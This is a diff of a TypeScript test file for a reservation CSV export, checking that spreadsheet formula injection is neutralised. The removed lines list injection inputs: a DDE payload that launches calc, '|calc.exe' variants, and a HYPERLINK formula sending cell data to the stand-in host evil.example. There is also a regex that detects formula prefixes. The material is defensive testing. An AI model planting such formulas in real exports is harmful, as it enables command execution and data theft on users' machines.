@@ -3,7 +3,9 @@ import { describe, expect, test } from "vitest";
 import type { Language } from "#contracts/scalars.ts";
 import { parseCsv } from "#tests/api/facilities/reservations/export/csv-reader.ts";
 import { copyOf, type ExportRow } from "#tests/api/facilities/reservations/export/rows.ts";
-import { amount, csvFile, harmless } from "./csv.ts";
+import { formulas, phones, plainTexts } from "#tests/support/sheet-texts.ts";
+import { asText } from "#upstream/core/download/columns.ts";
+import { amount, csvFile } from "./csv.ts";
 import { exportColumns, exportTexts } from "./csv-texts.ts";
 
 const at = (instant: string) => Date.parse(instant);
@@ -160,50 +162,7 @@ describe("amounts", () => {
   });
 });
 
-const nasty = [
-  "=1+1",
-  "=cmd|' /C calc'!A0",
-  '=HYPERLINK("http://evil.example?x="&A1;"click")',
-  "+39 333 1234567",
-  "-2+3",
-  "@SUM(A1:A2)",
-  "\t=1+1",
-  "\r=1+1",
-  "\n=1+1",
-  "  =1+1",
-  "\u00a0=1+1",
-  "\u200b=1+1",
-  "\ufeff=1+1",
-  "\u0000=1+1",
-  "＝1+1",
-  "＋1",
-  "－1",
-  "＠SUM(A1)",
-  "﹦1+1",
-  "﹣1",
-  "−1",
-  "|calc.exe",
-  " |calc.exe",
-  "｜calc.exe",
-  "\ttext",
-];
-const tame = [
-  "",
-  "Rossi Mario",
-  'O\'Brien; "Pat"',
-  "a=b",
-  "5-3",
-  "mario@club.example",
-  "两个\nrighe",
-  "😀 = 1",
-  "'quoted",
-  " x",
-];
-
 describe("formulas", () => {
-  test.each(nasty)("%j is written as text", (text) => expect(harmless(text)).toBe(`'${text}`));
-  test.each(tame)("%j stays as it is", (text) => expect(harmless(text)).toBe(text));
-
   test("no cell of any text runs, and what was written is read again", async () => {
     const separators = fc.constantFrom(
       ";",
@@ -225,7 +184,7 @@ describe("formulas", () => {
     const text = fc.oneof(
       fc.string({ unit: "binary" }),
       fc.array(fc.oneof(separators, fc.string({ unit: "grapheme" })), { maxLength: 8 }).map((parts) => parts.join("")),
-      fc.constantFrom(...nasty, ...tame),
+      fc.constantFrom(...formulas, ...phones, ...plainTexts),
     );
     const language = fc.constantFrom<Language>("it", "en", "es");
     await fc.assert(
@@ -236,9 +195,11 @@ describe("formulas", () => {
         const cells = parseCsv(text.slice(1), exportTexts[chosen].separator);
         expect(cells.map((line) => line.length)).toEqual([19, 19, 19]);
         const [, first = []] = cells;
-        for (const cell of first) expect(cell).not.toMatch(/^[\s\p{Cc}\p{Cf}]*[=+@|\-\uFF1D\uFF0B\uFF0D\uFF20]/u);
+        // A telephone number computes nothing.
+        for (const cell of first.filter((one) => !/^\+[\d ()./-]+$/u.test(one)))
+          expect(cell).not.toMatch(/^[\s\p{Cc}\p{Cf}]*[=+@|\-\uFF1D\uFF0B\uFF0D\uFF20]/u);
         expect([first[6], first[16], first[4]]).toEqual(
-          [written.holderName, written.notes, written.fieldName].map(harmless),
+          [written.holderName, written.notes, written.fieldName].map(asText),
         );
         expect([first[11], first[14]]).toEqual([
           amount(written.total, exportTexts[chosen].decimal),
